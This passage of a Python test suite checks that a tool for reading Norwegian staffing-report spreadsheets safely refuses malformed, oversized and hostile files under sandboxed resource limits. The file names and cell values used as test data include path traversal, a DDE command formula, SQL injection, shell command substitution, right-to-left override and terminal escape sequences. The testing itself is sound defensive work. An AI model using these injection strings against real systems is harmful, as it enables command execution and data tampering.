    "saved by another program": cell("Voksne", B9=None),
    "sheets in another order": in_book(lambda book: book.move_sheet("Voksne", 3)),
    "name of somebody's own": in_book(own_name),
    "sums as Excel shares them": shared_sums,
    "line break after a number": cell("Voksne", B8="4\n"),
    "line break as Excel writes it": value(
        b"<is><t>4_x000D_</t></is>", b' t="inlineStr"'
    ),
    "help filled in, with a note": in_book(help_used),
    "picture": part("xl/media/logo.svg", b"<!DOCTYPE svg><svg/>"),
    "remark that is code": cell("Voksne", H10="'; drop table x; -- \u202e<b>&amp;"),
}

ALL = {**FILES, **CELLS, **CHANGED}
# The first of each kind: of each list of reasons why it is refused.
FIRST = list({case.codes: name for name, case in reversed(ALL.items())}.values())


# --- Reading them -------------------------------------------------------------------


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Return a form that is filled in rightly."""
    return filled(written(tmp_path_factory.mktemp("good")))


@pytest.fixture(scope="module")
def make(good: bytes) -> Callable[[Case], bytes]:
    """Return what makes the file of a case, once."""
    made: dict[int, bytes] = {}

    def content(case: Case) -> bytes:
        if id(case) not in made:
            made[id(case)] = case.make(good)
        return made[id(case)]

    return content


@pytest.fixture(scope="module")
def context() -> watching.Watching:
    """Return what starts readers, and tells what they took."""
    return watching.Watching(reading.prepare())


@pytest.fixture
def read(
    context: watching.Watching, monkeypatch: pytest.MonkeyPatch
) -> Callable[..., list[Form]]:
    """Return what reads files as the command does, and looks at time and memory."""

    def run(*paths: Path, project: Path = ROOT) -> list[Form]:
        monkeypatch.setattr(intake, "prepare", lambda: context)
        began = time.monotonic()
        forms = intake.read_forms(list(paths), project, Console(quiet=True))
        assert time.monotonic() - began < (reading.SECONDS + BESIDE) * len(forms)
        assert all(most < reading.MEMORY for most in context.memory())
        return forms

    return run


@pytest.fixture
def read_here(monkeypatch: pytest.MonkeyPatch) -> Callable[..., list[Form]]:
    """Return what reads files in this process, without limits."""

    def replies(paths: list[Path], _: Console) -> Iterator[tuple[Path, reading.Reply]]:
        return ((path, reading.reply_of(path)) for path in paths)

    def run(*paths: Path) -> list[Form]:
        monkeypatch.setattr(intake, "read_all", replies)
        return intake.read_forms(list(paths), ROOT, Console(quiet=True))

    return run


def assert_told(form: Form, codes: str, where: str = "", found: str = "") -> None:
    """Check why a form is refused, and that a person is told what to do.

    The place and what was found are those of the first reason.
    """
    assert [problem.code for problem in form.problems] == codes.split()
    for n, problem in enumerate(form.problems):
        for language in ("nb", "en"):
            message = problem.message(language)
            assert message.isprintable()
            assert len(message) < 1000
            # What was found may have braces of its own.
            assert not re.search("[{}]", message) or "{" in problem.found
            template = catalogue(language)[f"refused.{problem.code}"]
            assert message.endswith(template.rsplit("}", 1)[-1])
            # What to do is said, in a sentence of its own.
            assert re.search("[.:] [A-ZÅ]", message), message
            if problem.cell:
                assert message.startswith(f"{problem.sheet}!{problem.cell}: ")
            if n == 0:
                assert message.startswith(where)
                assert found in message


@pytest.mark.parametrize("name", ALL)
def test_refused(
    name: str,
    make: Callable[[Case], bytes],
    tmp_path: Path,
    read: Callable[..., list[Form]],
    read_here: Callable[..., list[Form]],
) -> None:
    """A file that is not as it should be is refused, and why is said."""
    case = ALL[name]
    path = tmp_path / case.name
    path.write_bytes(make(case))
    # What is too large is stopped by the limits of a process.
    aside = name in FIRST or case.codes == "too_large"
    (form,) = read(path) if aside else read_here(path)
    assert_told(form, case.codes, case.where, case.found)


@pytest.mark.parametrize("name", HARMLESS)
def test_read(
    name: str,
    good: bytes,
    tmp_path: Path,
    read: Callable[..., list[Form]],
    read_here: Callable[..., list[Form]],
) -> None:
    """What is strange and does no harm is read as if it were not there."""
    path = tmp_path / NAME
    path.write_bytes(HARMLESS[name](good))
    (form,) = read(path) if name == "as it was" else read_here(path)
    assert not form.problems
    assert_right(form)


def assert_right(form: Form) -> None:
    """Check what was read from the form that was filled in."""
    assert (form.year, form.unit, form.parts) == (2026, "4601", ["Voksne"])
    assert len(form.submissions) == 9
    first = form.submissions[0]
    assert first["tjeneste"] == "Bolig med fast bemanning"
    assert float(first["aarsverk_a"]) == 4
    assert (first["aarsverk_b"], first["aarsverk_sum"]) == ("3.5", "7.5")
    assert first["merknad"] == REMARK


@pytest.mark.parametrize("change", HEAVY.values(), ids=HEAVY)
def test_heavy(
    change: Make,
    good: bytes,
    tmp_path: Path,
    read: Callable[..., list[Form]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A file that takes long is refused in time, or read rightly within the limits.

    Which of them depends on the machine. All of them are given a second here, and
    the next one the time that there is.
    """
    monkeypatch.setattr(reading, "SECONDS", 1)
    path = tmp_path / NAME
    path.write_bytes(change(good))
    (form,) = read(path)
    if form.problems:
        (problem,) = form.problems
        assert problem.code in ("too_large", "too_long", "damaged")
        assert_told(form, problem.code)
    else:
        assert_right(form)


def test_memory_runs_out(
    good: bytes, tmp_path: Path, read: Callable[..., list[Form]]
) -> None:
    """A merged range of 17 thousand million cells ends at the limit of memory."""
    path = tmp_path / NAME
    merged = b'<mergeCell ref="A30:XFD1048576"/></mergeCells>'
    path.write_bytes(swapped(ADULTS, b"</mergeCells>", merged)(good))
    (form,) = read(path)
    assert [problem.code for problem in form.problems] in (["too_large"], ["too_long"])


# --- Other projects, and what is no file ----------------------------------------------


@pytest.fixture
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return as much of the project as forms are read with."""
    folder = tmp_path_factory.mktemp("outer") / "project"
    shutil.copytree(ROOT / "seeds", folder / "seeds")
    shutil.copytree(ROOT / "macros", folder / "macros")
    shutil.copy(ROOT / "dbt_project.yml", folder)
    return folder


def test_service_is_added(
    good: bytes, project: Path, tmp_path: Path, read: Callable[..., list[Form]]
) -> None:
    """A form that was made before the list of services changed is an old edition."""
    newer = shutil.copytree(project, tmp_path / "newer")
    services = newer / "seeds" / "reference" / "services.csv"
    with services.open("a", encoding="utf-8") as file:
        file.write("current,adults,Enda en bolig,housing_with_staff,true\n")
    path = tmp_path / NAME
    path.write_bytes(good)
    (form,) = read(path, project=newer)
    found = "current 2026, 4601 Bergen"
    assert_told(form, "old_edition", found=found)


def test_year_before(tmp_path: Path, read: Callable[..., list[Form]]) -> None:
    """Last year's form is not taken for this year's."""
    path = tmp_path / "svar.xlsx"
    path.write_bytes(filled(written(tmp_path, 2024)))
    (form,) = read(path)
    assert_told(form, "other_year", found="--year 2024")


def test_no_form_of_a_file(tmp_path: Path, read: Callable[..., list[Form]]) -> None:
    """What is no file, or cannot be read, is not waited for."""
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "zero.xlsx").symlink_to("/dev/zero")
    (folder / "nowhere.xlsx").symlink_to("/nowhere/form.xlsx")
    (folder / "itself.xlsx").symlink_to("itself.xlsx")
    # A file that is there and that nobody can read from its start.
    (folder / "memory.xlsx").symlink_to("/proc/self/mem")
    os.mkfifo(folder / "pipe.xlsx")
    (folder / "folder.xlsx").mkdir()
    (folder / "folder.xlsx" / "empty.xlsx").touch()
    forms = {form.path.name: form for form in read(folder)}
    assert len(forms) == 6
    assert_told(forms.pop("empty.xlsx"), "empty_file")
    for form in forms.values():
        assert_told(form, "no_access")


@pytest.mark.parametrize("stamp", [1e12, -1e12, 1e300, float("nan")])
def test_strange_date(stamp: float) -> None:
    """A file with a date that no calendar has is received now."""
    file = SimpleNamespace(lstat=lambda: SimpleNamespace(st_mtime=stamp))
    assert abs(datetime.now() - intake.changed_at(file)) < timedelta(minutes=1)


def test_file_is_gone(tmp_path: Path) -> None:
    """A file that is taken away meanwhile does not stop the others."""
    received = intake.changed_at(tmp_path / "gone.xlsx")
    assert abs(datetime.now() - received) < timedelta(minutes=1)


# --- Limits ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def broken() -> watching.Watching:
    """Return what lets readers break down."""
    return watching.Watching(reading.prepare(), watching.broken)


def test_limits(broken: watching.Watching) -> None:
    """A process that reads has the limits that are promised."""
    told = reading.read_aside(Path("tell_limits.xlsx"), broken)
    assert told == {
        "RLIMIT_AS": [512 * 1024**2] * 2,
        "RLIMIT_CPU": [10] * 2,
        "RLIMIT_FSIZE": [0] * 2,
        "RLIMIT_CORE": [0] * 2,
    }
    assert reading.SECONDS == 10


@pytest.mark.parametrize(
    ("function", "code", "found"),
    [
        ("allocate", "too_large", ""),
        ("allocate_slowly", "too_large", ""),
        ("be_killed", "too_large", ""),
        ("end", "too_large", ""),
        ("say_too_much", "too_large", ""),
        ("recurse", "damaged", "RecursionError"),
        ("crash", "damaged", signal.strsignal(signal.SIGSEGV)),
        ("write", "no_access", os.strerror(27)),
        ("append", "no_access", os.strerror(27)),
        ("write_and_die", "damaged", signal.strsignal(signal.SIGXFSZ)),
    ],
)
def test_reader_breaks_down(
    function: str, code: str, found: str, broken: watching.Watching, tmp_path: Path
) -> None:
    """Whatever a reader does within its process, it ends with a reason."""
    path = tmp_path / f"{function}.xlsx"
    path.write_bytes(b"as it was")
    began = time.monotonic()
    reply = reading.read_aside(path, broken)
    assert (reply["code"], reply["found"]) == (code, found)
    assert time.monotonic() - began < reading.SECONDS + BESIDE
    assert all(most < reading.MEMORY for most in broken.memory())
    assert path.read_bytes() == b"as it was"
    others = [p for p in tmp_path.iterdir() if p != path]
    assert sum(p.stat().st_size for p in others) == 0


def test_reader_hangs(
    broken: watching.Watching, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reader that does not answer is ended, however little it listens."""
    monkeypatch.setattr(reading, "SECONDS", 1)
    began = time.monotonic()
    reply = reading.read_aside(Path("hang.xlsx"), broken)
    assert reply == {"code": "too_long", "found": "1 s"}
    assert time.monotonic() - began < 3
    assert not broken.children[-1].is_alive()


def test_others_go_on(
    good: bytes,
    broken: watching.Watching,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Readers that break down stop no other."""
    monkeypatch.setattr(intake, "prepare", lambda: broken)
    names = ["crash", "be_killed", "end", "say_too_much", "svar", "allocate", "zzz"]
    for stem in names:
        (tmp_path / f"{stem}.xlsx").write_bytes(good)
    forms = intake.read_forms([tmp_path], ROOT, Console(quiet=True))
    assert [form.path.stem for form in forms] == sorted(names)
    fine = [form for form in forms if not form.problems]
    assert [form.path.stem for form in fine] == ["svar", "zzz"]
    for form in fine:
        assert_right(form)


# --- A folder full of them ------------------------------------------------------------

HOSTILE_NAMES = [
    "skjema.xlsx: ikke lest\nLest ∕ read: 99.xlsx",
    "x..\\..\\evil.xlsx",
    "=cmd|'C calc'!A0.xlsx",
    "'; drop table form_rows; --.xlsx",
    '"x",y.xlsx',
    "\u202exslx.exe.xlsx",
    "[red]x[bold].xlsx",
    "\x1b[2J\x07.xlsx",
    "$(touch pwned).xlsx",
    "-year 2024",
    os.fsdecode(b"\xff\xfe.xlsx"),
    "x" * 250 + ".xlsx",
]


def listing(folder: Path) -> dict[str, str]:
    """Return what is in a folder, and what it is."""
    found = {}
    for path in folder.rglob("*"):
        if path.is_symlink():
            found[str(path)] = os.readlink(path)
        elif path.is_file():
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            found[str(path)] = "folder" if path.is_dir() else "other"
    return found


@pytest.mark.parametrize("names", [FIRST, pytest.param(ALL, marks=pytest.mark.long)])
def test_folder(
    names: Iterable[str],
    good: bytes,
    make: Callable[[Case], bytes],
    project: Path,
) -> None:
    """Good forms among bad ones are stored, and nothing else is written anywhere."""
    cases = [ALL[name] for name in names]
    outer = project.parent
    inbox, temporary = outer / "inbox", outer / "temporary"
    inbox.mkdir()
    temporary.mkdir()
    for n, case in enumerate(cases):
        folder = inbox / f"{n:03}"
        folder.mkdir()
        (folder / case.name).write_bytes(make(case))
    (inbox / "zero.xlsx").symlink_to("/dev/zero")
    os.mkfifo(inbox / "pipe.xlsx")
    # Each is another form, so that each is stored.
    answer = load_structure(2026, ROOT).questions[0].answers[0].name_nb
    asked = cell("Spørsmål", B6=answer)(good)
    for n, file_name in enumerate(HOSTILE_NAMES):
        another = swapped(ADULTS, b"<v>4</v>", b"<v>%d</v>" % (n + 10))
        (inbox / file_name).write_bytes(another(asked))
    (inbox / "good.xlsx").write_bytes(good)
    (inbox / "same.xlsx").write_bytes(good)
    # What programs put beside an open workbook.
    for beside in ("~$good.xlsx", ".good.xlsx.swp"):
        (inbox / beside).write_bytes(b"x")

    before = listing(outer)
    process = subprocess.run(
        [sys.executable, "-m", "arsverk", "form", "read", inbox],
        cwd=project,
        env={**os.environ, "TMPDIR": str(temporary), "PYTHONUTF8": "1"},
        capture_output=True,
        text=True,
        check=False,
    )
    after = listing(outer)
    assert process.returncode == 1, process.stderr
    assert "Traceback" not in process.stderr
    lines = process.stdout.splitlines()
    assert all(line.isprintable() for line in lines)
    n_good, n_bad = len(HOSTILE_NAMES) + 1, len(cases) + 2
    assert [line for line in lines if line.startswith("Lest")] == [
        f"Lest / read: {n_good}. Lest før / read before: 1. Ikke lest / not read:"
        f" {n_bad}."
    ]
    assert sum(line.endswith("ikke lest / not read") for line in lines) == n_bad

    submissions = project / "seeds" / "submissions"
    changed = {path for path in after if after[path] != before.get(path)}
    assert before.keys() <= after.keys()
    assert changed == {
        str(submissions / f"{stem}.csv")
        for stem in ("submissions_2026", "answers_2026", "form_rows", "form_files")
    }
    rows_of = {
        stem: (submissions / f"{stem}.csv").read_text(encoding="utf-8").splitlines()
        for stem in ("submissions_2026", "answers_2026", "form_rows", "form_files")
    }
    assert len(rows_of["submissions_2026"]) == 1 + 9 * n_good
    assert len(rows_of["answers_2026"]) == 1 + len(HOSTILE_NAMES)
    assert len(rows_of["form_rows"]) == 1 + 9 * n_good + len(HOSTILE_NAMES)
    assert len(rows_of["form_files"]) == 1 + n_good
    assert all(line.isprintable() for line in rows_of["form_files"])
